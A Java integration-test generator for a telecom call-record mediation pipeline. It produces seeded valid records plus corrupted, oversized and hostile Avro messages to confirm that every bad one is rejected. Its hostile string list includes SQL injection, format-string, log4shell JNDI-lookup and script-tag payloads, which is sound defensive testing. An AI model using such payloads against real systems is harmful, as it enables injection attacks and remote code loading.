package org.cdrflow.it;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumMap;
import java.util.HashSet;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.apache.avro.Schema;
import org.apache.avro.generic.GenericData;
import org.apache.avro.generic.GenericRecord;
import org.apache.avro.message.BinaryMessageEncoder;
import org.cdrflow.schema.RawCdr;
import org.cdrflow.schema.RecordType;
import org.cdrflow.schema.RejectedCdr;
import org.cdrflow.schema.codec.RawCdrCodec;
import org.cdrflow.schema.codec.RawCdrSchemas;

/**
 * A seeded generator of what an untrusted subprocessor could publish on the raw topic: random
 * bytes, damaged single-object encodings, foreign schemas, hostile strings in every string field,
 * numbers and times at their limits, plus a share of valid records of subscribers of {@code
 * examples/reference} that must come out rated, once each.
 *
 * <p>Every hostile record carries at least one defect the contract names (docs/mediation.md,
 * "Rejects"), so none of them may produce an output row. Records that are bit-flipped at random are
 * built on numbers of nobody (at least two bits away from every subscriber number), so no flip can
 * turn one into a billable record of a real subscriber; a flip may still turn one into an
 * unanswered call, which is counted and not kept.
 */
final class HostileFeed {

  /** What a message is. */
  enum Kind {
    /** A valid record of a subscriber: rated exactly once. */
    VALID,
    /** A byte-for-byte copy of an earlier valid record: a duplicate. */
    RESENT,
    RANDOM_BYTES,
    NO_VALUE,
    TRUNCATED,
    BIT_FLIPPED,
    WRONG_FINGERPRINT,
    OTHER_SCHEMA,
    EXTRA_ENUM_SYMBOL,
    ENUM_INDEX,
    INVALID_UTF8,
    HUGE_STRING,
    HOSTILE_STRING,
    NUMBER_LENGTH,
    TIME_LIMIT,
    NEGATIVE_VALUE,
    OVERSIZED_VOLUME;

    boolean rated() {
      return this == VALID;
    }
  }

  /** One message for the raw topic; {@code key} and {@code value} may be null. */
  record Message(String key, byte[] value, Kind kind) {}

  /** Subscribers of examples/reference with a subscription all through November 2026. */
  static final List<String[]> SUBSCRIBERS =
      List.of(
          new String[] {"+4791000101", "242770000000101"},
          new String[] {"+4791000102", "242770000000102"},
          new String[] {"+4740000103", "242770000000103"},
          new String[] {"+4792000104", "242770000000104"},
          new String[] {"+4793000107", "242770000000107"},
          new String[] {"+4792000111", "242770000000111"});

  /** Other parties of valid records, with the trunk their interconnect partner uses. */
  private static final List<String[]> COUNTERPARTS =
      List.of(
          new String[] {"+4745123456", "OSL-OPA-1"},
          new String[] {"+4746555001", "OSL-OPA-2"},
          new String[] {"+4747123456", "OSL-OPB-1"},
          new String[] {"+4748555002", "BGO-OPB-1"},
          new String[] {"+4791234567", null});

  /**
   * Hostile string values: SQL and format-string injection, log4shell, NUL and control characters,
   * lone UTF-16 surrogates (Avro writes them as '?'), the key separator, bidi overrides, markup.
   */
  static final List<String> HOSTILE_VALUES =
      List.of(
          "'); drop table invoice_line;--",
          "\\x00",
          "%s%s%s%n",
          "${jndi:ldap://hostile.invalid/a}",
          "\u0000",
          "MSC\u0000OSL",
          "\u0001\u0007\b\u001b[2J\r\n\t",
          "\uD800",
          "x\uDC00y",
          "A|B",
          "\u202Ehostile-rtl",
          "hostile-<script>alert(1)</script>",
          "\"quoted\"\\",
          "hostile-\u00fcn\u00efc\u00f8d\u00e9-\uD83D\uDE00");

  /** Parts of the hostile values that must never appear in an output table or a log line. */
  static final List<String> MARKERS =
      List.of(
          "drop table",
          "\\x00",
          "%s",
          "%n",
          "${jndi",
          "\u0000",
          "\u0001",
          "\u001b",
          "\u202E",
          "hostile-",
          "A|B",
          "<script>",
          "\"quoted\"");

  private static final Instant START = Instant.parse("2026-11-01T00:00:00Z");
  private static final long SPAN_MS = 19L * 24 * 3600 * 1000;
  private static final String PLACEHOLDER = "~~~~";
  private static final byte[][] INVALID_UTF8 = {
    {(byte) 0xED, (byte) 0xA0, (byte) 0x80, 'x'}, // a UTF-16 surrogate encoded as UTF-8
    {(byte) 0xC0, (byte) 0x80, 'x', 'x'}, // overlong NUL (Java's "modified UTF-8")
    {(byte) 0xFF, 'x', 'x', 'x'},
    {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, // above U+10FFFF
    {'x', (byte) 0xE2, (byte) 0x82, 'x'} // cut-off sequence
  };

  private final Random random;
  private final List<RawCdr> validSent = new ArrayList<>();
  private final Set<String> validLines = new LinkedHashSet<>();
  private final Set<String> numbers = new HashSet<>();
  private final Map<Kind, Integer> counts = new EnumMap<>(Kind.class);
  private final long currentFingerprint = RawCdrSchemas.fingerprint(RawCdrSchemas.current());
  private final Schema extraSymbolSchema = withExtraRecordType();
  private int hugeMegabyteRecords;
  private long clock;

  HostileFeed(long seed) {
    this.random = new Random(seed);
    for (String[] s : SUBSCRIBERS) {
      rememberNumber(s[0]);
      rememberNumber(s[1]);
    }
    for (String[] c : COUNTERPARTS) {
      rememberNumber(c[0]);
    }
  }

  /**
   * {@code count} messages: about 10 % valid, 0.5 % copies of earlier valid records, the rest
   * hostile in equal shares, among them {@code megabyteStrings} records with a 1 MB networkElement.
   */
  List<Message> generate(int count, int megabyteStrings) {
    List<Message> out = new ArrayList<>(count);
    Kind[] hostile = {
      Kind.RANDOM_BYTES,
      Kind.NO_VALUE,
      Kind.TRUNCATED,
      Kind.BIT_FLIPPED,
      Kind.WRONG_FINGERPRINT,
      Kind.OTHER_SCHEMA,
      Kind.EXTRA_ENUM_SYMBOL,
      Kind.ENUM_INDEX,
      Kind.INVALID_UTF8,
      Kind.HUGE_STRING,
      Kind.HOSTILE_STRING,
      Kind.HOSTILE_STRING,
      Kind.HOSTILE_STRING,
      Kind.NUMBER_LENGTH,
      Kind.TIME_LIMIT,
      Kind.NEGATIVE_VALUE,
      Kind.OVERSIZED_VOLUME
    };
    for (int i = 0; i < count; i++) {
      clock = START.toEpochMilli() + SPAN_MS * i / count;
      int draw = random.nextInt(1000);
      Kind kind;
      if (draw < 100) {
        kind = Kind.VALID;
      } else if (draw < 105 && !validSent.isEmpty()) {
        kind = Kind.RESENT;
      } else {
        kind = hostile[random.nextInt(hostile.length)];
      }
      out.add(message(i, kind, megabyteStrings));
      counts.merge(kind, 1, Integer::sum);
    }
    return out;
  }

  /** How many messages of each kind {@link #generate} made. */
  Map<Kind, Integer> counts() {
    return Collections.unmodifiableMap(counts);
  }

  int count(Kind kind) {
    return counts.getOrDefault(kind, 0);
  }

  /** {@code networkElement|callReference} of every valid record sent. */
  Set<String> validLines() {
    return Collections.unmodifiableSet(validLines);
  }

  /**
   * The digit strings (8 digits or more) of every number and IMSI used, in every raw form: none may
   * show up in a reject detail or a log line.
   */
  Set<String> numberDigits() {
    return Collections.unmodifiableSet(numbers);
  }

  private Message message(int i, Kind kind, int megabyteStrings) {
    switch (kind) {
      case VALID:
        {
          RawCdr r = valid("V" + i);
          validSent.add(r);
          validLines.add(r.getNetworkElement() + "|" + r.getCallReference());
          return record(r, kind);
        }
      case RESENT:
        {
          RawCdr r = validSent.get(random.nextInt(validSent.size()));
          return record(r, kind);
        }
      case RANDOM_BYTES:
        return new Message(randomKey(), randomBytes(), kind);
      case NO_VALUE:
        return new Message(randomKey(), random.nextBoolean() ? null : new byte[0], kind);
      case TRUNCATED:
        {
          RawCdr r = valid("T" + i);
          byte[] full = RawCdrCodec.encode(r);
          byte[] cut = new byte[random.nextInt(full.length)];
          System.arraycopy(full, 0, cut, 0, cut.length);
          return new Message(RawCdrCodec.key(r), cut, kind);
        }
      case BIT_FLIPPED:
        {
          RawCdr r = nobody("F" + i);
          byte[] b = RawCdrCodec.encode(r);
          int flips = 1 + random.nextInt(8);
          for (int f = 0; f < flips; f++) {
            int bit = random.nextInt(b.length * 8);
            b[bit / 8] ^= (byte) (1 << (bit % 8));
          }
          return new Message(RawCdrCodec.key(r), b, kind);
        }
      case WRONG_FINGERPRINT:
        {
          RawCdr r = valid("W" + i);
          byte[] b = RawCdrCodec.encode(r);
          long fp;
          do {
            fp = random.nextLong();
          } while (fp == currentFingerprint);
          writeLittleEndian(b, 2, fp);
          return new Message(RawCdrCodec.key(r), b, kind);
        }
      case OTHER_SCHEMA:
        {
          // A well-formed message of another of our schemas, wrapping a valid RawCdr: it must not
          // be unwrapped.
          RawCdr inner = valid("O" + i);
          RejectedCdr other =
              new RejectedCdr(
                  "00000000-0000-0000-0000-000000000000",
                  "NO_RATE",
                  "hostile-wrapped",
                  "cdr.raw",
                  0,
                  (long) i,
                  ByteBuffer.wrap(RawCdrCodec.encode(inner)),
                  Instant.ofEpochMilli(clock),
                  Instant.ofEpochMilli(clock));
          try {
            return new Message(
                RawCdrCodec.key(inner), toArray(RejectedCdr.getEncoder().encode(other)), kind);
          } catch (IOException e) {
            throw new UncheckedIOException(e);
          }
        }
      case EXTRA_ENUM_SYMBOL:
        return new Message("MSC-OSL-1|E" + i, withSymbol(valid("E" + i), "MMS"), kind);
      case ENUM_INDEX:
        {
          RawCdr r = valid("N" + i);
          byte[] b = RawCdrCodec.encode(r);
          int at = recordTypeOffset(b);
          // Single-byte zig-zag varints: even bytes 12..126 are indexes 6..63, odd ones negative.
          b[at] =
              (byte)
                  (random.nextBoolean() ? 12 + 2 * random.nextInt(58) : 1 + 2 * random.nextInt(63));
          return new Message(RawCdrCodec.key(r), b, kind);
        }
      case INVALID_UTF8:
        {
          RawCdr r = valid("U" + i);
          setAnyString(r, PLACEHOLDER, false);
          byte[] b = RawCdrCodec.encode(r);
          int at = indexOf(b, PLACEHOLDER.getBytes(StandardCharsets.US_ASCII));
          byte[] bad = INVALID_UTF8[random.nextInt(INVALID_UTF8.length)];
          System.arraycopy(bad, 0, b, at, bad.length);
          return new Message(RawCdrCodec.key(r), b, kind);
        }
      case HUGE_STRING:
        {
          RawCdr r = valid("G" + i);
          if (hugeMegabyteRecords < megabyteStrings) {
            // Two of them 3 MB: the broker checks the compressed size, so it takes a message
            // far larger than its 1 MiB limit once decompressed.
            int size = hugeMegabyteRecords < 2 ? 3_000_000 : 1_000_000;
            hugeMegabyteRecords++;
            r.setNetworkElement("hostile-" + "x".repeat(size));
            return new Message(null, RawCdrCodec.encode(r), kind);
          }
          String huge = "hostile-" + "9".repeat(65_536);
          setAnyString(r, huge, false);
          return new Message(null, RawCdrCodec.encode(r), kind);
        }
      case HOSTILE_STRING:
        {
          RawCdr r = valid("H" + i);
          String v = HOSTILE_VALUES.get(random.nextInt(HOSTILE_VALUES.size()));
          setAnyString(r, v, true);
          return record(r, kind);
        }
      case NUMBER_LENGTH:
        return record(numberLength(valid("L" + i)), kind);
      case TIME_LIMIT:
        return record(timeLimit(valid("M" + i)), kind);
      case NEGATIVE_VALUE:
        return record(negative(valid("X" + i)), kind);
      case OVERSIZED_VOLUME:
        {
          RawCdr r = valid("Z" + i);
          asData(r);
          switch (random.nextInt(3)) {
            case 0 -> {
              r.setUplinkBytes(Long.MAX_VALUE);
              r.setDownlinkBytes(1L);
            }
            case 1 -> {
              r.setUplinkBytes(Long.MAX_VALUE / 2 + 1);
              r.setDownlinkBytes(Long.MAX_VALUE / 2 + 1);
            }
            default -> r.setDownlinkBytes(100_000_000_000_000_000L); // 100 PB
          }
          return record(r, kind);
        }
      default:
        throw new IllegalStateException(kind.name());
    }
  }

  private Message record(RawCdr r, Kind kind) {
    return new Message(RawCdrCodec.key(r), RawCdrCodec.encode(r), kind);
  }

  /** A valid record of a subscriber, around the feed's clock. */
  private RawCdr valid(String reference) {
    String[] sub = SUBSCRIBERS.get(random.nextInt(SUBSCRIBERS.size()));
    String[] other = COUNTERPARTS.get(random.nextInt(COUNTERPARTS.size()));
    RecordType[] types = {
      RecordType.MOC,
      RecordType.MOC,
      RecordType.MTC,
      RecordType.SMS_MO,
      RecordType.SMS_MT,
      RecordType.DATA
    };
    RecordType type = types[random.nextInt(types.length)];
    long t = clock + random.nextInt(60_000);
    RawCdr.Builder b =
        RawCdr.newBuilder()
            .setNetworkElement(
                switch (type) {
                  case SMS_MO, SMS_MT -> "SMSC-OSL-1";
                  case DATA -> "PGW-OSL-1";
                  default -> "MSC-OSL-" + (1 + random.nextInt(2));
                })
            .setCallReference(reference)
            .setSequenceNumber(0)
            .setLastPartial(true)
            .setRecordType(type)
            .setServedMsisdn(rawForm(sub[0]))
            .setServedImsi(random.nextBoolean() ? sub[1] : null)
            .setCauseForTerm("NORMAL")
            .setDurationSeconds(0)
            .setSeizureTime(Instant.ofEpochMilli(t));
    switch (type) {
      case MOC -> {
        int seconds = 1 + random.nextInt(1800);
        b.setCalledNumber(rawForm(other[0]))
            .setOutTrunk(other[1])
            .setSeizureTime(Instant.ofEpochMilli(t - 1_000 - random.nextInt(20_000)))
            .setAnswerTime(Instant.ofEpochMilli(t))
            .setDurationSeconds(seconds);
      }
      case MTC -> {
        int seconds = 1 + random.nextInt(1800);
        b.setCallingNumber(rawForm(other[0]))
            .setCalledNumber(sub[0])
            .setInTrunk(other[1])
            .setSeizureTime(Instant.ofEpochMilli(t - 1_000 - random.nextInt(20_000)))
            .setAnswerTime(Instant.ofEpochMilli(t))
            .setDurationSeconds(seconds);
      }
      case SMS_MO -> b.setCalledNumber(rawForm(other[0])).setOutTrunk(other[1]);
      case SMS_MT -> b.setCallingNumber(rawForm(other[0])).setInTrunk(other[1]);
      case DATA -> {
        b.setDurationSeconds(60 + random.nextInt(3600));
        b.setUplinkBytes((long) random.nextInt(5_000_000));
        b.setDownlinkBytes((long) random.nextInt(50_000_000));
      }
      default -> throw new IllegalStateException();
    }
    return b.build();
  }

  /** A well-formed record of a number nobody has, nor can have after one flipped bit. */
  private RawCdr nobody(String reference) {
    RawCdr r = valid(reference);
    String served = "+4758" + (100000 + random.nextInt(900000));
    r.setServedMsisdn(rawForm(served));
    r.setServedImsi("24299" + (1000000000L + random.nextInt(900_000_000)));
    rememberNumber(served);
    rememberNumber(r.getServedImsi());
    if (r.getRecordType() == RecordType.MTC) {
      r.setCalledNumber(served);
    }
    return r;
  }

  private void asData(RawCdr r) {
    r.setRecordType(RecordType.DATA);
    r.setCallingNumber(null);
    r.setCalledNumber(null);
    r.setAnswerTime(null);
    r.setInTrunk(null);
    r.setOutTrunk(null);
    r.setDurationSeconds(600);
    r.setUplinkBytes(1_000L);
    r.setDownlinkBytes(1_000L);
  }

  /** A number field of 0 digits or of 40 digits. */
  private RawCdr numberLength(RawCdr r) {
    String forty = digits(40);
    String[] values = {
      "", "+", "-", "()", forty, "+" + forty, "+47" + digits(38), r.getServedMsisdn() + digits(30)
    };
    String v = values[random.nextInt(values.length)];
    rememberNumber(v);
    boolean requiresCalled =
        r.getRecordType() == RecordType.MOC || r.getRecordType() == RecordType.SMS_MO;
    int field = random.nextInt(3);
    if (v.isBlank() && field > 0 && !(field == 2 && requiresCalled)) {
      field = 0; // an empty optional number is a withheld one, which is valid
    }
    switch (field) {
      case 0 -> r.setServedMsisdn(v);
      case 1 -> r.setCallingNumber(v);
      default -> r.setCalledNumber(v);
    }
    return r;
  }

  private RawCdr timeLimit(RawCdr r) {
    long[] limits = {
      Long.MIN_VALUE, Long.MAX_VALUE, 0L, -1L, -86_400_000L, -1L - random.nextInt(Integer.MAX_VALUE)
    };
    long hostile = limits[random.nextInt(limits.length)];
    boolean answered = r.getAnswerTime() != null;
    int where = answered ? random.nextInt(3) : 0;
    switch (where) {
      case 0 -> r.setSeizureTime(Instant.ofEpochMilli(hostile)); // the event time if unanswered
      case 1 -> r.setAnswerTime(Instant.ofEpochMilli(hostile));
      default -> {
        r.setSeizureTime(Instant.ofEpochMilli(hostile));
        r.setAnswerTime(Instant.ofEpochMilli(limits[random.nextInt(limits.length)]));
      }
    }
    return r;
  }

  private RawCdr negative(RawCdr r) {
    switch (random.nextInt(4)) {
      case 0 ->
          r.setDurationSeconds(
              random.nextBoolean() ? Integer.MIN_VALUE : -1 - random.nextInt(100_000));
      case 1 -> r.setDurationSeconds(Integer.MAX_VALUE);
      case 2 -> {
        asData(r);
        if (random.nextBoolean()) {
          r.setUplinkBytes(random.nextBoolean() ? Long.MIN_VALUE : -1L);
        } else {
          r.setDownlinkBytes(-1L - random.nextInt(Integer.MAX_VALUE));
        }
      }
      default ->
          r.setSequenceNumber(random.nextBoolean() ? Integer.MIN_VALUE : -1 - random.nextInt(1000));
    }
    return r;
  }

  /**
   * Puts {@code value} into one string field chosen at random, sometimes next to a plausible value.
   */
  private void setAnyString(RawCdr r, String value, boolean embedSometimes) {
    String[] fields = {
      "networkElement",
      "callReference",
      "servedMsisdn",
      "servedImsi",
      "callingNumber",
      "calledNumber",
      "causeForTerm",
      "visitedPlmn",
      "inTrunk",
      "outTrunk"
    };
    String field = fields[random.nextInt(fields.length)];
    String v = value;
    if (embedSometimes && random.nextBoolean()) {
      // Next to a plausible value, e.g. a real subscriber's number followed by SQL: parsers that
      // cut off what they do not understand would bill it.
      String plausible =
          switch (field) {
            case "networkElement" -> "MSC-OSL-1";
            case "callReference" -> "C1";
            case "servedMsisdn" -> r.getServedMsisdn();
            case "servedImsi", "callingNumber", "calledNumber" -> SUBSCRIBERS.get(0)[0];
            case "causeForTerm" -> "NORMAL";
            case "visitedPlmn" -> "24201";
            default -> "OSL-OPA-1";
          };
      v = random.nextBoolean() ? plausible + v : v + plausible;
    }
    switch (field) {
      case "networkElement" -> r.setNetworkElement(v);
      case "callReference" -> r.setCallReference(v);
      case "servedMsisdn" -> r.setServedMsisdn(v);
      case "servedImsi" -> r.setServedImsi(v);
      case "callingNumber" -> r.setCallingNumber(v);
      case "calledNumber" -> r.setCalledNumber(v);
      case "causeForTerm" -> r.setCauseForTerm(v);
      case "visitedPlmn" -> r.setVisitedPlmn(v);
      case "inTrunk" -> r.setInTrunk(v);
      default -> r.setOutTrunk(v);
    }
  }

  /** A subscriber number in one of the raw forms of docs/mediation.md. */
  private String rawForm(String e164) {
    String national = e164.substring(3);
    String v =
        switch (random.nextInt(4)) {
          case 0 -> e164;
          case 1 -> "00" + e164.substring(1);
          case 2 -> e164.substring(1);
          default -> national;
        };
    rememberNumber(v);
    return v;
  }

  private void rememberNumber(String raw) {
    String d = raw.replaceAll("[^0-9]", "");
    if (d.length() >= 8) {
      numbers.add(d);
      if (d.startsWith("0047")) {
        numbers.add(d.substring(4));
        numbers.add(d.substring(2));
      } else if (d.startsWith("47") && d.length() == 10) {
        numbers.add(d.substring(2));
        numbers.add("00" + d);
      } else if (d.length() == 8) {
        numbers.add("47" + d);
        numbers.add("0047" + d);
      }
    }
  }

  private String digits(int n) {
    StringBuilder sb = new StringBuilder(n);
    sb.append((char) ('1' + random.nextInt(9)));
    while (sb.length() < n) {
      sb.append((char) ('0' + random.nextInt(10)));
    }
    return sb.toString();
  }

  private String randomKey() {
    return random.nextBoolean() ? null : "hostile-" + random.nextLong();
  }

  private byte[] randomBytes() {
    int shape = random.nextInt(4);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    if (shape >= 1) {
      out.write(0xC3);
      out.write(0x01);
    }
    if (shape >= 2) {
      byte[] fp = new byte[8];
      writeLittleEndian(fp, 0, currentFingerprint);
      out.writeBytes(fp);
    }
    if (shape == 3) {
      // A string length of 2 GB, as a crafted message would declare it.
      out.writeBytes(new byte[] {(byte) 0xFE, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 0x0F});
    }
    byte[] tail = new byte[random.nextInt(shape == 1 ? 9 : 600)];
    random.nextBytes(tail);
    out.writeBytes(tail);
    return out.toByteArray();
  }

  /** Encodes {@code r} with a writer schema whose RecordType has one more symbol, using it. */
  private byte[] withSymbol(RawCdr r, String symbol) {
    GenericRecord g = new GenericData.Record(extraSymbolSchema);
    for (Schema.Field f : extraSymbolSchema.getFields()) {
      Object v = r.get(f.name());
      if (v instanceof Instant instant) {
        v = instant.toEpochMilli();
      }
      g.put(f.name(), v);
    }
    g.put(
        "recordType",
        new GenericData.EnumSymbol(extraSymbolSchema.getField("recordType").schema(), symbol));
    try {
      return toArray(
          new BinaryMessageEncoder<GenericRecord>(GenericData.get(), extraSymbolSchema).encode(g));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Schema withExtraRecordType() {
    String json = RawCdrSchemas.current().toString();
    String symbols = "\"symbols\":[\"MOC\",\"MTC\",\"FWD\",\"SMS_MO\",\"SMS_MT\",\"DATA\"]";
    if (!json.contains(symbols)) {
      throw new IllegalStateException("RecordType symbols changed; update the test");
    }
    return new Schema.Parser()
        .parse(
            json.replace(
                symbols,
                "\"symbols\":[\"MOC\",\"MTC\",\"FWD\",\"SMS_MO\",\"SMS_MT\",\"DATA\",\"MMS\"]"));
  }

  /** Where the recordType enum index sits: after the header and the first four fields. */
  private static int recordTypeOffset(byte[] b) {
    int[] pos = {10};
    skipString(b, pos); // networkElement
    skipString(b, pos); // callReference
    readVarint(b, pos); // sequenceNumber
    pos[0]++; // lastPartial
    return pos[0];
  }

  private static void skipString(byte[] b, int[] pos) {
    long zigzag = readVarint(b, pos);
    pos[0] += (int) ((zigzag >>> 1) ^ -(zigzag & 1));
  }

  private static long readVarint(byte[] b, int[] pos) {
    long v = 0;
    int shift = 0;
    while (true) {
      int x = b[pos[0]++] & 0xff;
      v |= (long) (x & 0x7f) << shift;
      if ((x & 0x80) == 0) {
        return v;
      }
      shift += 7;
    }
  }

  private static int indexOf(byte[] haystack, byte[] needle) {
    outer:
    for (int i = 0; i <= haystack.length - needle.length; i++) {
      for (int j = 0; j < needle.length; j++) {
        if (haystack[i + j] != needle[j]) {
          continue outer;
        }
      }
      return i;
    }
    throw new IllegalStateException("placeholder not found");
  }

  private static void writeLittleEndian(byte[] b, int off, long v) {
    for (int i = 0; i < 8; i++) {
      b[off + i] = (byte) (v >>> (8 * i));
    }
  }

  private static byte[] toArray(ByteBuffer buffer) {
    byte[] a = new byte[buffer.remaining()];
    buffer.duplicate().get(a);
    return a;
  }
}
